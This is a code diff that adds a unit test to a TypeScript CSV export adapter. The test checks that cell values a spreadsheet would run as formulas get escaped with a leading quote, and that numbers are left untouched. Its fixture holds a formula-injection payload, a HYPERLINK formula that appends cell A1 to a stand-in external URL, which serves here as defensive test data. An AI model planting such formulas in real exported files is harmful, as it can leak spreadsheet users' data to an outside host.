@@ -209,6 +209,21 @@ describe('FileExportAdapter', () => {
     );
   });
 
+  it('escapes text a spreadsheet would run as a formula, leaving numbers alone; csvEscapeFormulas: false writes it as is', async () => {
+    const fields = { name: '=HYPERLINK("http://x.example/?"&A1,"open")', city: '@SUM(1)', ltv: -5, code: '-7' };
+    const written = async (batchId: string, options: { csvEscapeFormulas?: boolean }) => {
+      const files = adapter({ format: 'csv', csvColumns: ['name', 'city', 'ltv', 'code'], ...options });
+      await files.send(deliveryBatch(batchId, [deliveryItem(1, { fields })]), noAbort());
+      await files.close();
+      const [name] = visibleFiles(dir);
+      const text = readFileSync(join(dir, name), 'utf8');
+      rmSync(join(dir, name));
+      return text.split('\n')[1].split(',2026-12-05T12:00:01.000Z,')[1];
+    };
+    expect(await written('b1', {})).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""open"")",'@SUM(1),-5,'-7`);
+    expect(await written('b2', { csvEscapeFormulas: false })).toBe(`"=HYPERLINK(""http://x.example/?""&A1,""open"")",@SUM(1),-5,-7`);
+  });
+
   it('reports a directory that cannot exist as terminal, in words', async () => {
     const blocker = join(dir, 'a-file');
     await appendFile(blocker, 'not a directory');
